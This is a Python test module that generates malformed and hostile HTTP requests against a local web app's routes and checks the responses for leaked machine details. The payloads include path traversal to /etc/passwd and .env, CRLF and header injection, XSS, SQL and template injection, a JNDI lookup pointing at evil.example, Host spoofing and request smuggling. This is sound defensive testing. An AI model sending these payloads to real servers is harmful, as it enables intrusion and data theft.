"""Requests that a browser of ours never sends, as bytes, and what a server may answer them."""

import re
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

from pnp.web.routes import ROUTES

HOST = "127.0.0.1"
LONG = 100_000


class Attack(NamedTuple):
    """A request; one that is not HTTP may be answered by closing the connection alone."""

    name: str
    request: bytes
    is_http: bool = True


class Answered(NamedTuple):
    """What came back: 0 is the status of a connection that was closed without a word."""

    status: int
    text: bytes
    seconds: float


def attacks() -> list[Attack]:
    """Return all of them, each with a name of its own."""
    return [*_paths(), *_ids(), *_choices(), *_hosts(), *_ranges(), *_headers(), *_methods()]


def get(target: str | bytes, *headers: str, method: str = "GET", host: str | None = HOST) -> bytes:
    """Return a request; the target is sent as it is."""
    raw = target.encode() if isinstance(target, str) else target
    lines = [*([f"Host: {host}"] if host is not None else []), *headers, "Connection: close"]
    head = "\r\n".join(lines).encode()
    return b"%s %s HTTP/1.1\r\n%s\r\n\r\n" % (method.encode(), raw, head)


def _paths() -> Iterator[Attack]:
    up = ("..", "%2e%2e", "%2e.", "..%2f..", "..\\..", "..%5c..", "%252e%252e", "%c0%ae%c0%ae")
    for dots in up:
        for below in ("", "/static", "/games/turno", "/games/turno/make/pages"):
            target = f"{below}/{'/'.join([dots] * 9)}/etc/passwd"
            yield Attack(f"path {below}/{dots}", get(target), "\\" not in dots)
    for target in (
        "//evil.example/", "///", "/.", "/..", "/games/", "/games//", "/games/turno//make/",
        "/games/turno/make/?for=loop&%00", "/%00", "/games/turno%00/",
        "/games/turno%0d%0aSet-Cookie:%20a/",
        "/%", "/%zz", "/%u002e", "/%ff%fe", "/games/%F0%9F%8E%B2/", "/games/turno/;a=b",
        "/static/", "/static/.css", "/static/page.css/", "/static/%2fetc%2fpasswd",
        "/static/..", "/static/page.css%00.js", "/static/CON", "/static/base.html",
        "/etc/passwd", "/proc/self/environ", "/.git/config", "/.env", "/server-status",
        "/wp-login.php", "/de", "/de/de/", "/xx/", "/de/games.json", "/games.json/", "/games.json?",
        "/games/turno/make/kit.pdf/", "/games/TURNO/", "/games/__class__/", "/games/{game}/",
        "http://evil.example/", "http://evil.example/games.json", "*", "", "games.json",
        "/games/turno/?<script>alert(1)</script>", "/<script>alert(1)</script>/",
        "/own/", "/own/state.json", "/own/events", "/own/deck/cards/1/", "/printer/",
        "/" + "a" * LONG, "/" + "a/" * 3000, "/?" + "a" * LONG, "/games/" + "%2e" * 1000 + "/",
    ):  # fmt: skip
        yield Attack(f"path {target[:50]}", get(target), target[:1] == "/")
    yield Attack("query of bytes after a line break", get(b"/games%0a/make?for=\xf3("))
    yield Attack("query of bytes", get(b"/games/turno/make?for=\xf3("))
    yield Attack("path of bytes", get(b"/\xff\xfe\x80/"), is_http=False)
    yield Attack("path with a blank", get("/games /turno"), is_http=False)


def _ids() -> Iterator[Attack]:
    """Yield words where a route has a place for an id, a number or a name."""
    words = ("..", "%00", "-1", "99999999999999999999", "a" * 99, "__init__", "%7B%7B913*7%7D%7D")
    known = {"game": "turno", "rule_set": "loop", "lang": "en", "part": "tiles", "number": "1"}
    for route in ROUTES:
        for place in dict.fromkeys(re.findall(r"\{(\w+)\}", route)):
            others = {**known, "key": "1", "file": "page.css", "card": "1", "side": "front"}
            others["subject"] = "game"
            number = len(route) % len(words)
            for word in (words[number], words[(number + 3) % len(words)]):
                target = route.format(**{**others, place: word})
                yield Attack(f"{place} {word[:20]} in {route}", get(target))


def _choices() -> Iterator[Attack]:
    many = "&".join(f"word{number}=1" for number in range(10_000))
    repeated = "&".join(["only=tiles"] * 900)
    for query in (
        many, repeated, "only=" + "tiles," * 80, "only=" + "a" * 7000, "paper=" + "9" * 5000,
        "paper=../../etc/passwd", "paper=/etc/passwd", "paper=%00", "paper=a4%00", "paper=0x0mm",
        "paper=1mmx1mm", "paper=99999999x99999999mm", "paper=-210x-297mm", "paper=nanxnanmm",
        "paper=1e308x1e308mm", "paper=a4&paper=letter", "PAPER=a4", "paper[]=a4", "paper.x=a4",
        "theme=../x", "theme=./game.toml", "theme=C:%5Cx", "template=%2Fetc%2Fpasswd", "printer=x",
        "cutter=~/x", "cards=0", "cards=-1", "cards=1e9", "cards=999999999", "cards=%D9%A3",
        "cards=nan", "cards=inf", "for=__init__", "for=%2e%2e", "for=lottery", "for=loop%0a",
        "bleed=1e9mm", "bleed=-1mm", "gap=NaNmm", "margin=999mm", "size=tiles=1e308mm",
        "size=tiles=0mm", "size=%00", "lang=../en", "lang=xx", "lang=en%0d%0aX:y", "out=/tmp/x",
        "config=/etc/passwd", "--out=/tmp", "__class__=1", "%ff=%fe", "=", "&&&&", "%", "==&==",
        "changed-since=../../etc/passwd", "changed-since=manifest.json", "changed-since=opened",
        "draft=yes&proof=yes&formats=png", "draft=%00", "seen=" + "f" * 5000, "seen=%3Cscript%3E",
        "paper={{913*7}}", "paper=${jndi:ldap://evil.example/}", "paper=<script>alert(1)</script>",
        "paper='%20OR%201=1--", "q=" + "%F0%9F%8E%B2" * 300, "players=1000000000000",
    ):  # fmt: skip
        yield Attack(
            f"choice {query[:50]} ({len(query)})", get(f"/games/turno/make/?for=loop&{query}")
        )
    for name in (
        "make.json",
        "make/kit.pdf",
        "make/kit.zip",
        "make/pages/tiles/1.svg",
        "laser/beds/",
    ):
        query = "paper=99999x99999mm&ink=<b>&theme=../x&duplex=%00"
        yield Attack(f"choices of {name}", get(f"/games/turno/{name}?{query}"))
    kits = "&".join(f"kit=turno/{number}" for number in range(900))
    for query in (
        kits, "kit=", "kit=../../etc/passwd", "kit=turno/../..", "kit=%00",
        "kit=turno/loop%0d%0aA:b",
        "kit=nothing&" * 500, "kit=turno/loop&paper=9x9mm", "kit=turno/loop&cut=cutter",
        "kit=turno/loop&lang=../x", "kit=turno/loop&printer=x", "kit={{913*7}}", many,
    ):  # fmt: skip
        for path in ("/evening/", "/evening/kits.pdf"):
            yield Attack(f"{path} {query[:40]} ({len(query)})", get(f"{path}?{query}"))
    long = "&".join(["only=" + "tiles,pawns," * 40] * 15)
    for query in (long, "for=lottery", "printer=x", "paper=%3Cscript%3E"):
        name = f"share {query[:30]} ({len(query)})"
        yield Attack(name, get(f"/games/turno/make/share/?{query}", host=f"{HOST}:99999%3Cb%3E"))
    for query in (
        "q=" + "a" * 5000,
        "q=%00",
        "players=NaN",
        "kind=" + "x," * 1000,
        "page=-1",
        many,
    ):
        yield Attack(f"search {query[:30]} ({len(query)})", get(f"/?{query}"))


def _hosts() -> Iterator[Attack]:
    for host in (
        None, "", "evil.example", "127.0.0.1.evil.example", "evil.example:80", "localhost:99999999",
        "localhost@evil.example", "[::1", "[::1]evil.example", "127.1", "0.0.0.0", "0x7f000001",
        "LOCALHOST", "localhost.", "a" * 5000, "localhost, evil.example", "../..", "<script>",
    ):  # fmt: skip
        yield Attack(f"host {str(host)[:40]}", get("/games.json", host=host), host is not None)
    yield Attack("host twice", get("/games.json", "Host: evil.example"), is_http=False)
    forwarded = ("X-Forwarded-Host: evil.example", "Forwarded: host=evil.example;for=../")
    yield Attack("host forwarded", get("/games.json", *forwarded))
    yield Attack("host with NUL", get("/games.json", host="localhost\0evil"), is_http=False)


def _ranges() -> Iterator[Attack]:
    several = ",".join(f"{n}-{n}" for n in range(1000))
    for wanted in (
        "bytes=0-0", "bytes=-1", "bytes=-0", "bytes=99999999-", "bytes=5-1", "bytes=0-" + "9" * 400,
        "bytes=a-b", "bytes=--1", "lines=1-2", "bytes=", f"bytes={several}", "bytes=0-,0-,0-,0-",
    ):  # fmt: skip
        target = "/games/turno/rules/loop/en/sheet.pdf"
        yield Attack(f"range {wanted[:30]}", get(target, f"Range: {wanted}"))


def _headers() -> Iterator[Attack]:
    for name, values in {
        "Accept-Language": ("de;q=nan", "x" * 9000, "de;q=1e999,en;q=-1", ",;,;q=,", "../../x"),
        "Accept-Encoding": ("gzip;q=0", "*" * 5000, "gzip,gzip,gzip;q=9"),
        "If-None-Match": ("*", '"' * 5000, "W/" * 2000),
        "If-Modified-Since": ("yesterday",),
        "If-Range": ('"x"', "../x"),
        "Cookie": ("a=" + "b" * 9000,),
        "Expect": ("100-continue", "a miracle"),
        "Upgrade": ("websocket", "h2c"),
        "Transfer-Encoding": ("chunked", "gzip", "chunked, chunked"),
        "Content-Length": ("-1", "1e3", "9" * 30, "5, 6"),
        "X-Original-URL": ("/own/",),
        "Origin": ("null", "http://evil.example"),
    }.items():
        odd = name in ("Transfer-Encoding", "Content-Length", "Expect")
        for value in values:
            request = get("/games.json", f"{name}: {value}")
            yield Attack(f"{name}: {value[:20]} ({len(value)})", request, not odd)
    bomb = [f"X-{number}: 1" for number in range(10_000)]
    yield Attack("10,000 headers", get("/games.json", *bomb), is_http=False)
    yield Attack("a header of 1 MB", get("/games.json", f"X: {'a' * 1_000_000}"), is_http=False)
    for header in ("no colon", ": no name", "folded: a\r\n b", "a\0: b", "a: \0", "é: b", "a b: c"):
        yield Attack(f"header {header!r}", get("/games.json", header), is_http=False)
    for line in (
        b"", b"\r\n" * 100 + b"x", b"\n\n\n\n", b"GET /\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n",
        b"GET / HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 99,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\0" * 5000, b"A" * LONG, b"GET" + b" " * LONG,
        get("/games.json").replace(b"\r\n", b"\n"), get("/games.json").replace(b"\r\n", b"\r"),
        get("/games.json").replace(b"Connection: close\r\n", b"") + get("/games.json"),
        get("/", "Content-Length: 4", "Transfer-Encoding: chunked") + b"0\r\n\r\nGET /o",
    ):  # fmt: skip
        name = f"line {line[:30]!r} ({len(line)})"
        yield Attack(name, line, is_http=False)


def _methods() -> Iterator[Attack]:
    for method in (
        "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "FOO",
        "G" * 9000, "DEBUG",
    ):  # fmt: skip
        yield Attack(f"method {method[:10]}", get("/games/turno/make/", method=method))
    sent = "a=" + "b" * 60_000
    length = f"Content-Length: {len(sent)}"
    form = "Content-Type: application/x-www-form-urlencoded"
    for path in ("/printer/", "/games/turno/make/kit.pdf", "/own/"):
        for origin in ("http://evil.example", "null", f"http://{HOST}"):
            request = get(path, length, form, f"Origin: {origin}", method="POST") + sent.encode()
            yield Attack(f"form for {path} from {origin}", request)
    chunked = "Transfer-Encoding: chunked"
    chunks = b"ffffffff\r\n" + b"a" * 2000
    yield Attack("a huge chunk", get("/printer/", chunked, method="POST") + chunks, is_http=False)
    yield Attack("HEAD", get("/games/turno/make/kit.pdf?paper=/x", method="HEAD"))


def send(address: tuple[str, int], attack: Attack, patience: float = 20) -> Answered:
    """Send a request, no more of it, and read until the server closes the connection."""
    begin, found = time.perf_counter(), b""
    with socket.create_connection(address, timeout=patience) as link:
        try:
            link.sendall(attack.request)
            if not attack.is_http:
                link.shutdown(socket.SHUT_WR)  # or the server waits for the rest of it
        except OSError:
            pass  # refused before all of it was said
        try:
            while block := link.recv(1 << 16):
                found += block
        except ConnectionError:
            pass
    status = re.match(rb"HTTP/1\.1 (\d\d\d) ", found)
    return Answered(int(status[1]) if status else 0, found, time.perf_counter() - begin)


def machine_words() -> tuple[bytes, ...]:
    """Return words by which an answer would tell of the machine."""
    folders = (Path(__file__).parents[2], Path.home(), Path(sys.prefix), Path(sys.base_prefix))
    words = {str(folder) for folder in folders if len(folder.parts) > 1}
    said = {"Traceback", 'File "', ".py", "site-packages", "uvicorn", "starlette", "root:x:"}
    own = {socket.gethostname()} if len(socket.gethostname()) > 4 else set()
    return tuple(word.encode() for word in sorted(words | said | own))
